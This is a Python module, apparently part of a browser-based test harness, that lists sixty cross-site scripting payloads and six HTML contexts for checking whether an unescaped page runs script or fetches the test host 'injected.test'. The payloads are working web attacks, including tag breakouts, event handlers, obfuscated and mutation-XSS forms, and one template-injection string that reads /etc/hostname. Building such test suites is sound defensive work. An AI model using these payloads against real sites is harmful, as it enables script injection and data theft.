"""Sixty texts that run a script or fetch something where a page prints them as they are."""

from __future__ import annotations

import base64
from collections.abc import Sequence

from benchmarks.support.chromium import MARK

__all__ = ["CONTROLS", "HOST", "PAYLOADS", "URL"]

HOST = "injected.test"
URL = f"http://{HOST}/x"
_RAN = f"{MARK}(1)"
_CODES = ",".join(str(ord(character)) for character in _RAN)
_ENTITIES = "".join(f"&#{ord(character)};" for character in _RAN)
_B64 = base64.b64encode(f"<script src={URL}></script>".encode()).decode()

PAYLOADS: Sequence[str] = (
    f"<script>{_RAN}</script>",
    f"</script><script>{_RAN}</script>",
    f"</style><script>{_RAN}</script>",
    f"</title><script>{_RAN}</script>",
    f"</textarea><script>{_RAN}</script>",
    f"</noscript><script>{_RAN}</script>",
    f"--><script>{_RAN}</script><!--",
    f"]]><script>{_RAN}</script>",
    f"</template><script>{_RAN}</script>",
    f"</svg></math><script>{_RAN}</script>",
    f"<ScRiPt>{_RAN}</sCrIpT>",
    f"<script/x>{_RAN}</script>",
    f"<script\n>{_RAN}</script\n>",
    f"<<script>{_RAN}//<</script>",
    f"<script src={URL}></script>",
    f"<script type=module>import '{URL}'</script>",
    f"<script>import('{URL}')</script>",
    f"<script>fetch('{URL}')</script>",
    f"<script>new Image().src='{URL}'</script>",
    f"<script>document.title='{MARK}'</script>",
    f"<script>document.documentElement.dataset.{MARK.lower()}=1</script>",
    f"<img src=x onerror={_RAN}>",
    f'<img src=x onerror="{_ENTITIES}">',
    f"<img src=x onerror=eval(String.fromCharCode({_CODES}))>",
    f'"><img src=x onerror={_RAN}>',
    f"'><img src=x onerror={_RAN}>",
    f"`><img src=x onerror={_RAN}>",
    f'" onmouseover="{_RAN}" x="',
    f"' onfocus='{_RAN}' autofocus tabindex=1 x='",
    f'" autofocus onfocus={_RAN} x="',
    f" onclick={_RAN} ",
    f'" style="background:url({URL})" x="',
    f"<img src={URL}>",
    f"<img srcset='{URL} 1x'>",
    f"<svg onload={_RAN}>",
    f"<svg><script>{_RAN}</script></svg>",
    f"<svg><animate onbegin={_RAN} attributeName=x dur=1s>",
    f"<svg><image href={URL} /></svg>",
    f"<svg><a xlink:href='javascript:{_RAN}'><text>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={_RAN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RAN}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RAN}>'>",
    f"<a href='javascript:{_RAN}'>x</a>",
    f"<a href='java&Tab;script:{_RAN}'>x</a>",
    f"<iframe src='data:text/html;base64,{_B64}'></iframe>",
    f"javascript:{_RAN}",
    f"<iframe srcdoc='<script>parent.{_RAN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RAN}'></iframe>",
    f"<iframe src={URL}></iframe>",
    f"<object data={URL}></object>",
    f"<embed src={URL}>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<base href='{URL}'><img src=y>",
    f"<link rel=stylesheet href={URL}>",
    f"<style>@import '{URL}'; body {{ background: url({URL}) }}</style>",
    f"<form action={URL}><button autofocus>x</button></form>",
    f"<video><source onerror={_RAN}></video>",
    f"<details open ontoggle={_RAN}>x</details>",
    "{{ self.__init__.__globals__.__builtins__.open('/etc/hostname').read() }}" + f"{{% raw %}}<script>{_RAN}</script>",
    f"\u202e<\u200bscript>{_RAN}</script>\x00<scr\x00ipt>{_RAN}</script>\u2028<img src=x onerror={_RAN}>",
)
"""Each runs, or asks for `URL`, in a page that escapes nothing."""

CONTROLS: Sequence[str] = (
    "<p>{}</p>",
    '<p title="{}">x</p>',
    "<p title='{}'>x</p>",
    "<textarea>{}</textarea>",
    "<p {}>x</p>",
    '<a href="{}">x</a>',
)
"""Places of a page that escapes nothing."""
